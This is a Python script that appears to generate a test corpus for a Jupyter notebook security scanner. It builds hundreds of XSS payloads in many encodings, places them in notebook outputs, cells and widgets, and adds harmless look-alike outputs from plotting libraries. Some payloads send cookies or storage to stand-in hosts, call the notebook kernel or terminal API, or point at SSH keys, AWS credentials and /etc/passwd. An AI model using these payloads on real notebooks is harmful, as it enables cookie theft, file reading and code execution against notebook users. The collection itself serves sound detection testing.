#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Payloads that run, load or cover when a notebook is shown, in every place that holds markup, and harmless outputs that
look like them. Every payload has to be found where it stands, nothing harmless may be called medium or worse.

    xss.py CUPEL [--missed] [--keep FOLDER]

The payloads are made here from families and ways to write them; `run()` and the hosts under .example do nothing."""

import argparse
import base64
import collections
import json
import os
import subprocess
import sys
import tempfile

SCRIPT = {"SCRIPT", "KERNEL-ACCESS", "CALLS-HOME", "DISGUISED-SCRIPT"}
HANDLER = {"EVENT-HANDLER", "KERNEL-ACCESS", "CALLS-HOME", "DISGUISED-SCRIPT"}
URL = {"SCRIPT-URL"}

EVENTS = """onabort onafterprint onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut
onbeforeinput onbeforeprint onbeforetoggle onbeforeunload onbegin onblur oncanplay oncanplaythrough onchange onclick onclose oncommand oncontextmenu
oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragstart ondrop ondurationchange onend onended onerror onfocus onfocusin
onformdata onfullscreenchange ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadstart
onmessage onmousedown onmouseenter onmousemove onmouseover onmousewheel onoffline onpagehide onpageshow onpaste onplay onpointerdown onpointerover
onpopstate onprogress onrepeat onreset onresize onscroll onscrollend onsearch onsecuritypolicyviolation onseeking onselect onselectstart onshow
onslotchange onstart onstorage onsubmit onsuspend ontimeupdate ontoggle ontouchstart ontransitionend ontransitionrun onunload onvolumechange
onwaiting onwebkitanimationend onwheel""".split()


def decimal(text, width=0, end=";"):
    return "".join(f"&#{ord(c):0{width}d}{end}" for c in text)


def hexadecimal(text, width=0, sign="x", end=";"):
    return "".join(f"&#{sign}{ord(c):0{width}x}{end}" for c in text)


def scripts():
    plain = ["<script>run()</script>", "<SCRIPT>run()</SCRIPT>", "<ScRiPt>run()</sCrIpT>", "<script\n>run()</script\n>", "<script/x>run()</script>",
             "<script\t type=module>run()</script>", "<script\x0cdefer>run()</script>", "<script x='>'>run()</script>", "<script>run()",
             "<<script>run()</script>", "<script>run()</script x='y'>", "<!--><script>run()</script>-->", "<!---><script>run()</script>-->",
             "<!-- x --!><script>run()</script>", "<!-- a --><script>run()</script>", "<?x y?><script>run()</script>", "</ x><script>run()</script>",
             "<!x><script>run()</script>", "<script language=vbs>run</script>", "<svg><script>run()</script></svg>",
             "<svg><script>run&#40;&#41;</script></svg>", "<svg:script>run()</svg:script>", "<math><script>run()</script></math>",
             "<template shadowrootmode=open><script>run()</script></template>", "<noscript><script>run()</script></noscript>",
             "<table><script>run()</script></table>", "<select><script>run()</script></select>", "<svg><![CDATA[><script>run()</script>]]></svg>",
             "<script>eval(atob('cnVuKCk='))</script>", "<script>eval(String.fromCharCode(114,117,110))</script>",
             "<script>\\u0072\\u0075\\u006e\\u0028\\u0029\\u003b\\u0072\\u0075</script>", "<script>[][(![]+[])[+[]]]</script>",
             "<script>fetch('https://take.example/?c='+document.cookie)</script>", "<script>new Image().src='//take.example/?'+document.cookie</script>",
             "<script>navigator.sendBeacon('https://take.example', localStorage.x)</script>",
             "<script>IPython.notebook.kernel.execute('import os')</script>", "<script>fetch('/api/contents/x', {method: 'DELETE'})</script>",
             "<script>fetch('/api/terminals', {method: 'POST'})</script>"]
    for text in plain:
        yield "script", text, SCRIPT
    for text in ["<script src=//load.example/a.js></script>", "<script src='https://load.example/a.js'></script>", "<SCRIPT SRC=HTTP://LOAD.EXAMPLE/a.js></SCRIPT>",
                 "<script/src=https://load.example/a.js></script>", "<script src=\"\\\\load.example\\a.js\"></script>", "<script src=https:load.example/a.js></script>",
                 "<script src='ht&#116;ps://load.example/a.js'></script>", "<script src='data:text/javascript,run()'></script>",
                 "<script src='data:text/javascript;base64,cnVuKCk='></script>", "<script src=' https://load.example/a.js'></script>",
                 "<script async src=https://load.example:8443/a.js></script>", "<script src=https://user@load.example/a.js></script>",
                 "<svg><script href='https://load.example/a.js'></script></svg>", "<svg><script xlink:href='https://load.example/a.js' /></svg>",
                 "<script type=module src=https://load.example/a.mjs></script>"]:
        yield "remote script", text, {"REMOTE-SCRIPT", "SCRIPT-URL"}


def handlers():
    for event in EVENTS:
        yield "handler", f"<div {event}=run()>x</div>", HANDLER
    for tag in ["img src=x onerror", "svg onload", "body onload", "video src=x onerror", "audio src=x onerror", "details open ontoggle", "marquee onstart",
                "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus", "iframe onload", "object data=x onerror",
                "embed src=x onload", "style onload", "link rel=stylesheet href=x onload", "video><source onerror", "x-y onclick", "a tabindex=1 onfocusin",
                "svg><animate onbegin", "svg><set onbegin", "math><mi onclick", "dialog open onclose", "meter onmouseover", "xss contenteditable onblur"]:
        yield "handler", f"<{tag}=run()>", HANDLER
    value = "run()"
    for text in [f"<img/src='x'/onerror={value}>", f"<img\tsrc=x\tonerror={value}>", f"<img\nsrc=x\nonerror={value}>", f"<img\rsrc=x\ronerror={value}>",
                 f"<img\x0csrc=x\x0conerror={value}>", f"<img src='x'onerror='{value}'>", f"<img src=\"x\"onerror=\"{value}\">", f"<IMG SRC=x ONERROR={value}>",
                 f"<iMg sRc=x oNeRrOr={value}>", f"<img src=x onerror\n=\n{value}>", f"<img src=x onerror = '{value}'>", f"<img src=x onerror={decimal(value)}>",
                 f"<img src=x onerror={hexadecimal(value)}>", f"<img src=x onerror={hexadecimal(value, sign='X')}>", f"<img src=x onerror={decimal(value, end='')}>",
                 f"<img src=x onerror={decimal(value, 9)}>", f"<img src=x onerror={hexadecimal(value, 20)}>", f"<img src=x onerror=\"javascript:{value}\">",
                 "<img src=x onerror=eval(atob('cnVuKCk='))>", "<img src=x onerror=\"top['r'+'un']()\">", "<img src=x onerror=\"window.onerror=run;throw 1\">",
                 "<img src=x onerror=run`1`>", "<img src=x onerror=`run()`>", f"<img src=x onerror={value} ", f"<img src=x onerror='{value}", f"<img =x onerror={value}>",
                 f"<img src=\"a>b\" onerror={value}>", f"<img src='a\">' onerror={value}>", f"<img \"\"\" onerror={value}>", f"<img ' onerror={value}>",
                 f"<img alt='`' onerror={value}>", f"<img src=x:x onerror={value}//", f"<svg><a><rect onclick={value} /></a></svg>", f"<img src=x onerror={value} onerror=''>",
                 f"<p>a < b <img src=x onerror={value}></p>", f"<img src=x onerror=\"fetch('https://take.example')\">",
                 "<img src=x onerror=\"IPython.notebook.kernel.execute('x')\">", f"<a href=# onclick={value}>x</a>", f"<!--[if IE]>--><img src=x onerror={value}>"]:
        yield "handler", text, HANDLER


def addresses():
    """Ways to write an address that runs script."""
    word = "javascript"
    rest = ":run()"
    yield word + rest
    yield word.upper() + rest
    yield "jAvAsCrIpT" + rest
    yield "java\tscript" + rest
    yield "java\nscript" + rest
    yield "java\rscript" + rest
    yield "java&#9;script" + rest
    yield "java&#10;script" + rest
    yield "java&#x0D;script" + rest
    yield "java&Tab;script" + rest
    yield "java&NewLine;script" + rest
    yield "javascript&colon;run&lpar;&rpar;"
    yield "javascript&#58;run()"
    yield "javascript&#x3a;run()"
    yield decimal(word) + rest
    yield decimal(word, end="") + rest
    yield decimal(word, 7) + rest
    yield decimal(word, 7, "") + rest
    yield hexadecimal(word) + rest
    yield hexadecimal(word, 6) + rest
    yield hexadecimal(word, 0, "X") + rest
    yield "j&#97;vascript" + rest
    yield "&#106;avascript" + rest
    yield " " + word + rest
    yield "\n" + word + rest
    yield "\x01" + word + rest
    yield "&#14; " + word + rest
    yield "&#1;" + word + rest
    yield "j\ta\tv\ta\ts\tc\tr\ti\tp\tt\t" + rest
    yield word + "\t" + rest
    yield word + "://%0arun()"
    yield word + ":/*x*/run()"
    yield "vbscript:run()"
    yield "VBSCRIPT:run()"
    yield "livescript:run()"
    yield "view-source:javascript:run()"
    yield "data:text/html,<script>run()</script>"
    yield "data:text/html;base64," + base64.b64encode(b"<script>run()</script>").decode()
    yield "DATA:TEXT/HTML;charset=utf-8,&lt;script&gt;run()&lt;/script&gt;"
    yield "da&#10;ta:text/html,x"
    yield "data:image/svg+xml,<svg onload=run()>"
    yield "data:application/xhtml+xml,<x/>"
    yield "data:text/xml,<x/>"
    yield "data:text/html ;,x"


def links():
    for address in addresses():
        quoted = '"' + address.replace('"', "&quot;") + '"'
        yield "address", f"<a href={quoted}>x</a>", URL
        yield "address", f"<iframe src={quoted}></iframe>", URL | {"FRAME"}
        yield "address", f"<form action={quoted}><input></form>", URL | {"FORM"}
        yield "address", f"<object data={quoted}></object>", URL
    one = "javascript:run()"
    for text in [f"<button formaction={one}>x</button>", f"<input type=submit formaction={one}>", f"<embed src={one}>", f"<area href={one}>",
                 f"<svg><a xlink:href={one}><text>x</text></a></svg>", f"<svg><a href={one}><text>x</text></a></svg>", f"<math href={one}>x</math>",
                 f"<math><maction xlink:href={one}>x</maction></math>", f"<body background={one}>", f"<table background={one}>", f"<img src={one}>",
                 f"<img dynsrc={one}>", f"<img lowsrc={one}>", f"<video poster={one}></video>", f"<input type=image src={one}>", f"<frameset><frame src={one}></frameset>",
                 f"<link rel=stylesheet href={one}>", f"<a foo:href={one}>x</a>", f"<applet code={one}></applet>", f"<img srcset='{one} 1x'>", f"<a href='{one}' target=_blank>x</a>"]:
        yield "address", text, URL | {"FORM"}
    yield "refresh", f"<meta http-equiv=refresh content='0;url={one}'>", {"REFRESH"}
    yield "refresh", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=data:text/html,x\">", {"REFRESH"}
    yield "refresh", "<meta http-equiv='ref&#114;esh' content='0;//go.example'>", {"REFRESH"}
    yield "refresh", "<meta http-equiv=refresh content='1'>", {"REFRESH"}
    yield "base", "<base href=//go.example/>", {"BASE"}
    yield "base", "<BASE TARGET=x HREF=\"https://go.example\">", {"BASE"}


def frames():
    inner = "<script>run()</script>"
    once = inner.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    twice = ('<iframe srcdoc="' + once + '">').replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    for text in [f'<iframe srcdoc="{inner}"></iframe>', f'<iframe srcdoc="{once}"></iframe>', f'<iframe srcdoc="{twice}"></iframe>', f'<iframe srcdoc="{decimal(inner)}"></iframe>',
                 "<iframe data-html=\"" + base64.b64encode(inner.encode()).decode() + "\"></iframe>", "<iframe data-html=\"%3Cscript%3Erun()%3C/script%3E\"></iframe>"]:
        yield "frame", text, {"SCRIPT", "FRAME"}
    for text in ["<iframe src=https://page.example></iframe>", "<iframe src=//page.example></iframe>", "<IFRAME SRC=\\\\page.example></IFRAME>", "<frame src=https://page.example>",
                 "<portal src=https://page.example></portal>", "<fencedframe src=https://page.example></fencedframe>", "<iframe src=/files/x.html></iframe>"]:
        yield "frame", text, {"FRAME", "LOCAL-FILE"}
    for text in ["<object data=https://page.example/x.swf></object>", "<embed src=//page.example/x>", "<applet code=X archive=x.jar></applet>", "<object classid=clsid:0></object>"]:
        yield "plug-in", text, {"PLUGIN"}
    for text in ["<form action=https://take.example><input type=password></form>", "<form><input type=password name=p></form>", "<form method=post action=//take.example>x</form>",
                 "<button formaction=https://take.example>x</button>", "<isindex type=image src=1>"]:
        yield "form", text, {"FORM"}


def drawings():
    for text in ["<svg><use href='https://load.example/a.svg#x'/></svg>", "<svg><use xlink:href='//load.example/a.svg#x'/></svg>",
                 "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>", "<svg><a><animate attributeName=href to=javascript:run() /></a></svg>",
                 "<svg><a><animate attributeName=xlink:href values='x;javascript:run();x'/></a></svg>", "<svg><set attributeName=href to='javascript:run()'/></svg>",
                 "<svg><set attributeName=onmouseover to=run() /></svg>", "<svg><animate attributeName='h&#114;ef' from='javascript:run()'/></svg>",
                 "<svg><foreignObject><p>x</p></foreignObject></svg>", "<svg><animateTransform attributeName=onload by=x /></svg>"]:
        yield "drawing", text, {"SVG-ACTIVE", "SCRIPT-URL"}
    for text in ["<svg><foreignObject><body onload=run()></body></foreignObject></svg>", "<svg><image href=x onerror=run() /></svg>",
                 "<svg><g onclick=run()></g></svg>", "<svg><style onload=run()></style></svg>", "<svg><title><img src=x onerror=run()></title></svg>"]:
        yield "drawing", text, HANDLER | {"MUTATION"}
    for text in ["<?xml-stylesheet href='javascript:run()'?><svg></svg>", "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/x'>]><svg>&x;</svg>"]:
        yield "drawing", text, {"ENTITY"}


def styles():
    for text in ["<p style='width:expression(run())'>x</p>", "<p style='width:exp/**/ression(run())'>x</p>", "<p style='width:e\\78pression(run())'>x</p>",
                 "<p style='w:e\\000078 pression(run())'>x</p>", "<p style='width:EXPRESSION(run())'>x</p>", f"<p style='width:{decimal('expression(run())')}'>x</p>",
                 "<p style='behavior:url(x.htc)'>x</p>", "<p style='-moz-binding:url(//load.example/x.xml#y)'>x</p>", "<p style=\"background:url('javascript:run()')\">x</p>",
                 "<p style=\"background:u\\72l(javascript:run())\">x</p>", "<style>a{background:url(javascript:run())}</style>", "<style>a{width:expression(run())}</style>",
                 "<style>a{b:e/*x*/xpression(run())}</style>"]:
        yield "style", text, {"STYLE-SCRIPT"}
    for text in ["<style>@import '//load.example/a.css';</style>", "<style>@import url(https://load.example/a.css);</style>", "<style>@\\69mport '//load.example/a.css';</style>",
                 "<style>@IMPORT\n'//load.example/a.css'</style>", "<style>a{background:url(//load.example/x)}</style>", "<style>a{src:u\\72 l(//load.example/x)}</style>",
                 "<link rel=stylesheet href=//load.example/a.css>", "<link rel=import href=//load.example/a.html>", "<link rel='preload' as=script href=https://load.example/a.js>",
                 "<link rel=modulepreload href=https://load.example/a.js>", "<LINK REL=DNS-PREFETCH HREF=//load.example>", "<link rel=manifest href=x.json>",
                 "<style>@font-face{src:url(https://load.example/f.woff)}</style>"]:
        yield "style", text, {"REMOTE-STYLE"}
    for text in ["<p style='background:url(https://see.example/p)'>x</p>", "<p style=\"list-style:url('//see.example/p')\">x</p>", "<p style='background:image-set(\"//see.example/p\" 1x)'>x</p>",
                 "<img src=https://see.example/p.png>", "<img src=//see.example/p.png>", "<IMG SRC=\\/see.example/p>", "<img srcset='a 1x, //see.example/p 2x'>", "<video poster=//see.example/p></video>",
                 "<audio src=https://see.example/a autoplay></audio>", "<video><source src=//see.example/v></video>", "<track src=//see.example/t>", "<input type=image src=//see.example/p>",
                 "<body background=//see.example/p>", "<svg><image href=//see.example/p></svg>", "<svg><feImage xlink:href=//see.example/p /></svg>", "<picture><source srcset=//see.example/p></picture>"]:
        yield "beacon", text, {"REMOTE-IMAGE", "BEACON"}
    for text in ["<img src=//see.example/p width=1 height=1>", "<img src=https://see.example/p style='display:none'>", "<a href=x ping=//see.example/p>x</a>", "<img hidden src=//see.example/p>",
                 "<bgsound src=//see.example/s>", "<img style='visibility:hidden' src=//see.example/p>"]:
        yield "beacon", text, {"BEACON"}
    for text in ["<img src=\\\\\\\\share.example\\x\\y.png>", "<img src='file://share.example/x/y.png'>", "<img src='file:///C:/x.png'>", "<a href='file:///etc/x'>x</a>"]:
        yield "local file", text, {"LOCAL-FILE"}
    for text in ["<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>", "<div style='position: fixed; inset: 0'>x</div>", "<div style='z-index:99;position:FIXED'>x</div>",
                 "<style>.a{position:fixed;width:100vw}</style>", "<div style='posi/**/tion:fixed;z-index:9'>x</div>", "<div style='position:fi\\78 ed;z-index:9'>x</div>"]:
        yield "overlay", text, {"OVERLAY"}
    for text in ["<p style='display:none'>words that nobody sees here</p>", "<p style='font-size:0'>words that nobody sees here</p>", "<p style='color:#fff;background:white'>words that nobody sees</p>",
                 "<p style='color:white'>words that nobody sees here</p>", "<p style='opacity:0'>words that nobody sees here</p>", "<font color=white>words that nobody sees here</font>",
                 "<p hidden>words that nobody sees here</p>", "<p style='text-indent:-9999px'>words that nobody sees here</p>", "<p style='visibility:hidden'>words that nobody sees</p>",
                 "<p style='color:transparent'>words that nobody sees here</p>"]:
        yield "hidden text", text, {"HIDDEN-TEXT"}


def mutations():
    run = "<img src=x onerror=run()>"
    attribute = run.replace("<", "&lt;").replace(">", "&gt;")
    for text in [f"<noscript><p title=\"</noscript>{run}\">", f"<textarea><p title=\"</textarea>{run}\">", f"<title><p title=\"</title>{run}\">", f"<style><p title=\"</style>{run}\">",
                 f"<xmp><p title=\"</xmp>{run}\">", f"<noembed><p title=\"</noembed>{run}\">", f"<noframes><p title=\"</noframes>{run}\">", f"<iframe><p title=\"</iframe>{run}\"></iframe>",
                 f"<svg></p><style><a id=\"</style>{run}\">", f"<math><mi><style><!--</style><img title=\"--&gt;{attribute}\">", f"<svg><style>{attribute}</style></svg>",
                 f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;{attribute}\">", f"<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea>{run}\">",
                 f"<svg><title>{run}</title></svg>", f"<svg><desc><style><a title=\"</style>{run}\"></style></desc></svg>", f"<p id=\"--&gt;{attribute}\">", f"<a title='--!&gt;{attribute}'>",
                 f"<math><annotation-xml encoding=\"text/html\"><style><p title=\"</style>{run}\"></style></annotation-xml></math>", f"<title>{run}</title>", f"<textarea>{run}</textarea>",
                 f"<xmp>{run}</xmp>", f"<noembed>{run}</noembed>", f"<style>{run}</style>", f"<svg><textarea>{attribute}</textarea></svg>", f"<template><p title=\"</template>{run}\"></template>",
                 f"<a title=\"]]>{run}\">", f"<select><style><p title='</style>{run}'></select>", f"<plaintext>{run}"]:
        yield "mutation", text, {"MUTATION", "EVENT-HANDLER"}


def others():
    for text in ["<button data-commandlinker-command='notebook:run-all'>x</button>", "<button DATA-COMMANDLINKER-COMMAND=x data-commandlinker-args='{}'>x</button>",
                 "<a data-commandlinker-args='{\"a\":1}'>x</a>", "<button/data-commandlinker-command=terminal:create-new>x</button>"]:
        yield "command button", text, {"COMMAND-BUTTON"}
    for text in ["<form id=attributes><input name=parentNode></form>", "<img name=getElementById>", "<form name=body></form>", "<a id=defaultView href=x></a>", "<input name=cookie>",
                 "<script type='application/json' id='jupyter-config-data'>{}</script>", "<iframe name=location></iframe>", "<object name=documentElement></object>"]:
        yield "clobbering", text, {"CLOBBER"}
    yield "opener", "<a href=https://go.example target=_blank rel=opener>x</a>", {"OPENER"}


def markup():
    for family in (scripts, handlers, links, frames, drawings, styles, mutations, others):
        yield from family()


def markdown():
    for address in addresses():
        if any(c in address for c in "\n\r\t<> ") or address.startswith("\x01"):
            continue
        yield "link", f"see [x]({address}) there", URL
        yield "link", f"see [x](<{address}> \"title\")", URL
        yield "link", f"see [x][r]\n\n[r]: {address}\n", URL
    for text in ["<javascript:run()>", "[x](javascript\\:run())", "![x](javascript:run())", "[x]( javascript:run() )", "[![x](y)](javascript:run())", "> [x](JAVASCRIPT:run())"]:
        yield "link", text, URL
    for text in ["![x](https://see.example/p.png)", "![x](//see.example/p.png)"]:
        yield "beacon", text, {"REMOTE-IMAGE"}
    for text in ["![x](/etc/hostname)", "![x](../../../../etc/passwd)", "![x](..%2f..%2f..%2f.ssh/id_rsa)", "![x](C:\\Users\\x\\y.txt)", "![x](~/.aws/credentials)",
                 "<img src=\"../../../.netrc\">", "![x](file:///etc/passwd)", "![x](\\\\\\\\share\\x\\y)"]:
        yield "picture path", text, {"IMAGE-PATH", "LOCAL-FILE"}
    for text in ["$\\href{javascript:run()}{x}$", "$\\href{JaVaScRiPt:run()}{x}$", "$\\href{java\tscript:run()}{x}$", "$$\\url{javascript:run()}$$", "$\\href{data:x,y}\\href{vbscript:x}{y}$"]:
        yield "formula", text, URL
    for text in ["\\input{/etc/passwd}", "\\include{../../../x}", "\\write18{run}", "\\immediate\\write18{run}", "\\openout5=x"]:
        yield "formula", text, {"TEX-FILE"}


def programs():
    for text in ["IPython.notebook.kernel.execute('x')", "Jupyter.notebook.execute_cells([0])", "google.colab.kernel.invokeFunction('evil', [], {})", "app.commands.execute('terminal:create-new')",
                 "fetch('/api/contents')", "document.getElementById('jupyter-config-data')"]:
        yield "program", text, {"KERNEL-ACCESS"}
    for text in ["fetch('https://take.example')", "new WebSocket('wss://take.example')", "import('https://take.example/x.js')", "location = 'https://take.example/' + document.cookie"]:
        yield "program", text, {"CALLS-HOME"}
    for text in ["eval(atob('cnVuKCk='))", "eval(unescape('%72'))", "[]['constructor']"]:
        yield "program", text, {"DISGUISED-SCRIPT"}
    yield "program", "alert(1)", {"SCRIPT"}


def output(mime, text):
    return {"cell_type": "code", "execution_count": 1, "metadata": {}, "source": "show()",
            "outputs": [{"output_type": "display_data", "metadata": {}, "data": {mime: text}}]}


def cell(kind, text):
    return {"cell_type": kind, "metadata": {"raw_mimetype": "text/html"} if kind == "raw" else {}, "source": text}


def notebook(cells, metadata=None):
    return {"cells": cells, "metadata": metadata or {}, "nbformat": 4, "nbformat_minor": 4}


def widget(text):
    model = {"model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0", "model_name": "HTMLModel", "state": {"value": text}}
    state = {"application/vnd.jupyter.widget-state+json": {"state": {"m1": model}, "version_major": 2, "version_minor": 0}}
    return notebook([cell("markdown", "x")], {"widgets": state})


def inside_widget(text):
    """An output kept inside an Output widget, flat as Colab writes it."""
    model = {"model_name": "OutputModel", "state": {"outputs": [{"output_type": "display_data", "data": {"text/html": [text[:3], text[3:]]}}]}}
    return notebook([cell("markdown", "x")], {"widgets": {"m1": model}})


CARRIERS = {
    "html output": lambda text: notebook([output("text/html", text)]),
    "html output, list": lambda text: notebook([output("text/html", text.splitlines(keepends=True))]),
    "svg output": lambda text: notebook([output("image/svg+xml", text)]),
    "markdown cell": lambda text: notebook([cell("markdown", text)]),
    "markdown output": lambda text: notebook([output("text/markdown", text)]),
    "raw cell": lambda text: notebook([cell("raw", text)]),
    "widget state": widget,
    "output widget": inside_widget,
}


def plants():
    for family, text, rules in markup():
        for name, carrier in CARRIERS.items():
            if name.startswith("markdown") and ("`" in text or "\n" in text):
                continue  # a code span to Markdown
            yield name, family, text, carrier(text), rules
    for family, text, rules in markdown():
        yield "markdown cell", family, text, notebook([cell("markdown", text)]), rules
        if family == "formula":
            yield "latex output", family, text, notebook([output("text/latex", text)]), rules
    for family, text, rules in programs():
        yield "javascript output", family, text, notebook([output("application/javascript", text)]), rules


STYLER = """<style type="text/css">
#T_a1_row0_col0 {background-color: #fff7fb; color: #000000;} #T_a1_row0_col1 {width: 10em; background: linear-gradient(90deg, #5fba7d 50.0%, transparent 50.0%);}
</style><table id="T_a1"><thead><tr><th class="blank level0">&nbsp;</th><th id="T_a1_level0_col0" class="col_heading level0 col0">price &lt; 5</th></tr></thead>
<tbody><tr><th id="T_a1_level0_row0" class="row_heading">0</th><td id="T_a1_row0_col0" class="data row0 col0">1.5</td></tr></tbody></table>"""
FRAME = """<div><style scoped>.dataframe tbody tr th:only-of-type { vertical-align: middle; } .dataframe thead th { text-align: right; }</style>
<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>a</th></tr></thead><tbody><tr><th>0</th><td>x</td></tr></tbody></table><p>1 rows</p></div>"""
COLAB = FRAME + """<button class="colab-df-convert" onclick="convertToInteractive('df-1')" title="Convert" style="display:none;"><svg viewBox="0 0 24 24"><path d="M0 0h24v24H0V0z"/></svg></button>
<script>const b = document.querySelector('#df-1 button'); b.style.display = google.colab.kernel.accessAllowed ? 'block' : 'none';
async function convertToInteractive(key) { const t = await google.colab.kernel.invokeFunction('convertToInteractive', [key], {}); const d = document.createElement('div');
d.innerHTML = 'Like it? <a target="_blank" href=https://colab.research.google.com/notebooks/data_table.ipynb>data table</a>'; }</script>"""
PLOTLY = """<div><script type="text/javascript">if (window.MathJax) {MathJax.Hub.Config({SVG: {font: "STIX-Web"}});}</script><script type="text/javascript">window.PlotlyConfig = {MathJaxConfig: 'local'};</script>
<script src="https://cdn.plot.ly/plotly-2.27.0.min.js"></script><div id="d1" class="plotly-graph-div" style="height:525px; width:100%;"></div><script type="text/javascript">window.PLOTLYENV=window.PLOTLYENV || {};
if (document.getElementById("d1")) { Plotly.newPlot("d1", [{"x":[1,2],"type":"bar"}], {"title":{"text":"t"}}, {"responsive": true, "plotlyServerURL": "https://plot.ly"}) };</script></div>"""
PLOTLY_REQUIRE = """<script type="text/javascript">require.undef("plotly"); requirejs.config({ paths: { 'plotly': ['https://cdn.plot.ly/plotly-2.4.2.min'] } });
require(['plotly'], function(Plotly) { window._Plotly = Plotly; });</script>"""
BOKEH = """<div class="bk-root"><a href="https://bokeh.org" target="_blank" class="bk-logo bk-logo-small bk-logo-notebook"></a><span id="1001">Loading BokehJS ...</span></div>"""
BOKEH_SCRIPT = """(function(root) { function now() { return new Date(); } const force = true; if (typeof root._bokeh_onload_callbacks === "undefined") { root._bokeh_onload_callbacks = []; }
function handleClearOutput(event, handle) { const cell = handle.cell; const server_id = cell.output_area._bokeh_server_id; if (server_id) { var cmd = "from bokeh.io.state import curstate; print(curstate().uuid_to_server['" + server_id + "'])";
cell.notebook.kernel.execute(cmd, { iopub: {} }); } } const js_urls = ["https://cdn.bokeh.org/bokeh/release/bokeh-2.4.3.min.js"]; function load_libs(urls) { for (const url of urls) { const e = document.createElement('script');
e.src = url; document.head.appendChild(e); } } load_libs(js_urls); }(window));"""
FOLIUM = ("<div style=\"width:100%;\"><div style=\"position:relative;width:100%;height:0;padding-bottom:60%;\"><span style=\"color:#565656\">Make this Notebook Trusted to load map: File -> Trust Notebook</span>"
          "<iframe srcdoc=\"&lt;!DOCTYPE html&gt;\n&lt;html&gt;&lt;head&gt;&lt;script src=&quot;https://cdn.jsdelivr.net/npm/leaflet@1.9.3/dist/leaflet.js&quot;&gt;&lt;/script&gt;"
          "&lt;link rel=&quot;stylesheet&quot; href=&quot;https://cdn.jsdelivr.net/npm/leaflet@1.9.3/dist/leaflet.css&quot;/&gt;&lt;style&gt;#map {position:absolute;top:0;bottom:0;}&lt;/style&gt;&lt;/head&gt;&lt;body&gt;"
          "&lt;div id=&quot;map_1&quot;&gt;&lt;/div&gt;&lt;script&gt;var map_1 = L.map(&quot;map_1&quot;, {center: [48.1, 11.5]}); L.tileLayer(&quot;https://tile.openstreetmap.org/{z}/{x}/{y}.png&quot;).addTo(map_1);&lt;/script&gt;"
          "&lt;/body&gt;&lt;/html&gt;\" style=\"position:absolute;width:100%;height:100%;left:0;top:0;border:none !important;\" allowfullscreen webkitallowfullscreen mozallowfullscreen></iframe></div></div>")
FOLIUM_OLD = ("<div><iframe src=\"about:blank\" data-html=\"" + base64.b64encode(b"<!DOCTYPE html><script>var map_1 = L.map('m');</script>").decode()
              + "\" onload=\"this.contentDocument.open();this.contentDocument.write(atob(this.getAttribute('data-html')));this.contentDocument.close();\"></iframe></div>")
VEGA = """<div id="altair-viz-1"></div><script type="text/javascript">(function(spec, embedOpt){ let outputDiv = document.currentScript.previousElementSibling; const paths = {"vega": "https://cdn.jsdelivr.net/npm/vega@5?noext",
"vega-embed": "https://cdn.jsdelivr.net/npm/vega-embed@6?noext"}; function loadScript(lib) { return new Promise(function(resolve) { var s = document.createElement('script'); s.src = paths[lib]; s.onload = () => resolve(paths[lib]);
document.getElementsByTagName("head")[0].appendChild(s); }); } loadScript("vega"); })({"data": {"values": [{"a": 1}]}, "mark": "bar"}, {"mode": "vega-lite"});</script>"""
ANIMATION = """<div class="animation"><img id="_anim_img1"><div class="anim-controls"><input id="_anim_slider1" type="range" oninput="anim1.set_frame(parseInt(this.value));"><button title="Play" onclick="anim1.play_animation()">
<i class="fa fa-play"></i></button></div><form title="Repetition mode" action="#n" name="_anim_loop_select1" class="anim-state"><input type="radio" name="state" value="once" id="_anim_radio1_1"></form></div>
<link rel="stylesheet" href="https://maxcdn.bootstrapcdn.com/font-awesome/4.4.0/css/font-awesome.min.css"><script language="javascript">function Animation(frames, img_id) { this.img_id = img_id; this.frames = frames; }</script>"""
GRAPHVIZ = """<?xml version="1.0" encoding="UTF-8" standalone="no"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"
xmlns:xlink="http://www.w3.org/1999/xlink"><defs><path id="p1" d="M0 0"/></defs><use xlink:href="#p1" x="4"/><style type="text/css">*{stroke-linejoin:round}</style><g id="node1"><title>a -> b</title><text>x &lt; 3</text></g></svg>"""
MERMAID = "<svg><foreignObject width='10' height='10'><div xmlns='http://www.w3.org/1999/xhtml'>A</div></foreignObject></svg>"
SKLEARN = """<style>#sk-1 div.sk-toggleable__content {max-height: 0;}</style><div id="sk-1" class="sk-top-container"><div class="sk-text-repr-fallback"><pre>LinearRegression()</pre></div><div class="sk-container" hidden>
<div class="sk-item"><input class="sk-toggleable__control" id="sk-e1" type="checkbox" checked><label for="sk-e1">LinearRegression parameters</label></div></div></div>"""
VIDEO = '<iframe width="560" height="315" src="https://www.youtube.com/embed/x" frameborder="0" allowfullscreen></iframe>'
LOCAL = '<iframe width="100%" height="600" src="http://localhost:6006" frameborder="0"></iframe>'
WIDGET = "<p>Epoch <b>3</b> of 5: <span style='color:green'>ok</span></p>"
BADGE = """# Title\n\n<a href="https://colab.research.google.com/github/o/r/blob/main/x.ipynb" target="_parent"><img src="https://colab.research.google.com/assets/colab-badge.svg" alt="Open"/></a>
[![Build](https://img.shields.io/badge/build-ok-green.svg)](https://github.com/o/r) ![local](images/a.png) ![beside](../images/a.png)\n\nIf a < b and b > c then `<script>alert(1)</script>` is text.\n\n```html\n<img src=x onerror=run()>\n```\n
$a<b$ and $\\frac{a}{b}$, see [docs](https://docs.python.org/3/) and [above](#Title). <a id="body"></a> <br/> <details><summary>More</summary>text</details>\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"""
